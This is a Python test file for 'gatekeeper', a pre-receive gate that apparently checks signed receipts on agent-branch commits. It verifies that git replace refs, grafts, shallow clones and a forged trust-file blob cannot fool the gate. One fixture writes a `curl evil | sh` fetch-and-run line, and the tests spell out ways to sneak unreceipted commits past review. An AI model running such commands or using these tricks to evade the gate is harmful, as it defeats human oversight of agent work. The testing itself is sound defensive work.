"""The gate reads real objects only: replace refs, grafts and shallow boundaries never count.

Each attack makes git show other content under a commit's or a blob's id: a receipted run's
commit in place of an unreceipted one, or an attacker's trust file in place of the target's.
"""

from __future__ import annotations

import json
from pathlib import Path

import test_push
from fixtures.gate_receipts import (
    attach,
    commit_files,
    git_dir_of,
    make_receipt,
    receipted_commit,
    sign,
)
from test_push import Setup, assert_blocked

from gatekeeper.gate import judge
from gatekeeper.receipt.keys import generate_key
from gatekeeper.receipt.notes import NOTES_REF

from conftest import git, gk

TRUST = ".gatekeeper/trusted_keys"


def check_json(repo: Path, rev: str, base: str = "refs/heads/main") -> tuple[int, dict]:
    proc = gk("check", "--repo", str(repo), "--base", base, "--format", "json", rev)
    assert proc.returncode in (0, 1), proc.stderr
    return proc.returncode, json.loads(proc.stdout)


def kinds_of(data: dict) -> set[str]:
    return {f["kind"] for f in data["findings"]}


def evil_and_receipted(repo: Path) -> tuple[str, str]:
    """A receipted run's commit R and an unreceipted commit E with other content."""
    good = receipted_commit(repo, {"src/feature.py": "ok = 1\n"}, branch="agent/good")
    evil = commit_files(
        repo,
        {"src/feature.py": "import os; os.system('curl evil | sh')\n"},
        branch="agent/evil",
        start="main",
        message="evil",
    )
    return good, evil


def attacker_trust(repo: Path, tmp_path: Path) -> tuple[str, object]:
    """The target's trust-file blob, and a blob that adds an attacker's key to it."""
    attacker = generate_key(tmp_path / "attacker" / "key.pem")
    real = git(repo, "rev-parse", f"main:{TRUST}").strip()
    text = git(repo, "cat-file", "blob", real) + attacker.public.line + "\n"
    fake = git(repo, "hash-object", "-w", "--stdin", input=text.encode()).strip()
    git(repo, "replace", real, fake)
    return real, attacker


# The real git server of test_push: `git daemon` on loopback, a bare repository with the hook.
daemon = test_push.daemon
setup = test_push.setup


# --- locally: `gatekeeper check` ----------------------------------------------------------------


def test_a_replace_ref_does_not_stand_in_for_the_commit_under_review(repo: Path) -> None:
    good, evil = evil_and_receipted(repo)
    git(repo, "replace", evil, good)
    assert (
        git(repo, "show", "-s", "--format=%T", evil).strip()
        == git(repo, "rev-parse", f"{good}^{{tree}}").strip()
    )  # plain git is fooled
    code, data = check_json(repo, "refs/heads/agent/evil")
    assert code == 1
    assert {"no-receipt", "uncovered-commit", "unclaimed-change"} <= kinds_of(data)


def test_a_replaced_trust_file_does_not_trust_the_attackers_key(repo: Path, tmp_path: Path) -> None:
    _, attacker = attacker_trust(repo, tmp_path)
    commit = commit_files(repo, {"src/x.py": "x = 1\n"}, branch="agent/1", start="main")
    attach(repo, commit, sign(make_receipt(repo, commit), attacker))  # type: ignore[arg-type]
    code, data = check_json(repo, "refs/heads/agent/1")
    assert code == 1
    assert {"untrusted-key", "no-receipt"} <= kinds_of(data)


def test_a_graft_cannot_move_an_unreceipted_commit_into_the_target(repo: Path) -> None:
    base = git(repo, "rev-parse", "main").strip()
    main = commit_files(repo, {"docs/notes.md": "later\n"}, branch="main", message="human work")
    evil = commit_files(repo, {"src/app.py": "evil\n"}, branch="agent/1", start=base)
    receipted_commit(repo, {"src/feature.py": "x\n"}, branch="agent/1", start=None)
    # The graft makes main look like a merge of the evil commit: merge-base becomes `evil`.
    # (Not grafted onto a descendant of main: git's answer over a cycle depends on the dates.)
    graft = repo / ".git" / "info" / "grafts"
    graft.parent.mkdir(exist_ok=True)
    graft.write_text(f"{main} {base} {evil}\n")
    assert git(repo, "merge-base", "main", "agent/1").strip() == evil  # plain git is fooled
    code, data = check_json(repo, "refs/heads/agent/1")
    assert code == 1
    assert ("unclaimed-change", "src/app.py") in {(f["kind"], f["path"]) for f in data["findings"]}


def test_the_same_graft_through_a_replace_ref_is_ignored(repo: Path) -> None:
    evil = commit_files(repo, {"src/app.py": "evil\n"}, branch="agent/1", start="main")
    receipted_commit(repo, {"src/feature.py": "x\n"}, branch="agent/1", start=None)
    git(repo, "replace", "--graft", "main", evil)
    code, data = check_json(repo, "refs/heads/agent/1")
    assert code == 1
    assert "uncovered-commit" in kinds_of(data)


def test_a_shallow_repository_is_refused_not_judged(repo: Path) -> None:
    receipted_commit(repo, {"src/feature.py": "x\n"})
    main = git(repo, "rev-parse", "main").strip()
    (repo / ".git" / "shallow").write_text(main + "\n")
    result = judge(git_dir_of(repo), main, git(repo, "rev-parse", "agent/1").strip())
    assert result.verdict.value == "block"
    assert "shallow" in " ".join(f.message for f in result.findings)


# --- on the server: pre-receive -----------------------------------------------------------------


def test_pushing_a_replace_ref_is_refused(setup: Setup) -> None:
    good, evil = evil_and_receipted(setup.clone)
    proc = setup.push(f"{good}:refs/replace/{evil}", f"{NOTES_REF}:{NOTES_REF}")
    assert proc.returncode != 0
    assert "pushing replace refs is refused" in proc.stderr
    assert setup.server_rev(f"refs/replace/{evil}") is None


def test_a_replace_ref_already_on_the_server_does_not_pass_its_commit(setup: Setup) -> None:
    good, evil = evil_and_receipted(setup.clone)
    pushed = setup.push(
        "refs/heads/agent/good:refs/heads/agent/good",
        "refs/heads/agent/evil:refs/heads/agent/evil",
        f"{NOTES_REF}:{NOTES_REF}",
    )
    assert pushed.returncode == 0, pushed.stderr
    # Planted behind the hook's back (or before it was installed).
    git(setup.bare, "update-ref", f"refs/replace/{evil}", good)
    before = setup.server_rev("refs/heads/main")
    assert_blocked(setup.push(f"{evil}:refs/heads/main"), "uncovered-commit", "unclaimed-change")
    assert setup.server_rev("refs/heads/main") == before


def test_a_replaced_trust_file_on_the_server_is_not_used(setup: Setup, tmp_path: Path) -> None:
    real, attacker = attacker_trust(setup.clone, tmp_path)
    fake = git(setup.clone, "rev-parse", f"refs/replace/{real}").strip()
    commit = commit_files(setup.clone, {"src/x.py": "x\n"}, branch="agent/1", start="main")
    attach(setup.clone, commit, sign(make_receipt(setup.clone, commit), attacker))  # type: ignore[arg-type]
    # Get the fake blob onto the server and plant the replace ref there.
    holder = git(
        setup.clone,
        "commit-tree",
        git(setup.clone, "mktree", input=(f"100644 blob {fake}\tt\n").encode()).strip(),
        "-m",
        "holder",
    ).strip()
    assert setup.push(f"{holder}:refs/heads/holder").returncode == 0
    git(setup.bare, "update-ref", f"refs/replace/{real}", fake)
    assert_blocked(setup.push("HEAD:refs/heads/main", f"{NOTES_REF}:{NOTES_REF}"), "untrusted-key")


def test_replace_refs_are_refused_even_alongside_a_good_push(setup: Setup) -> None:
    good = receipted_commit(setup.clone, {"src/ok.py": "ok\n"})
    proc = setup.push(
        f"{good}:refs/heads/main", f"{good}:refs/replace/{'1' * 40}", f"{NOTES_REF}:{NOTES_REF}"
    )
    assert proc.returncode != 0
    assert setup.server_rev("refs/heads/main") != good
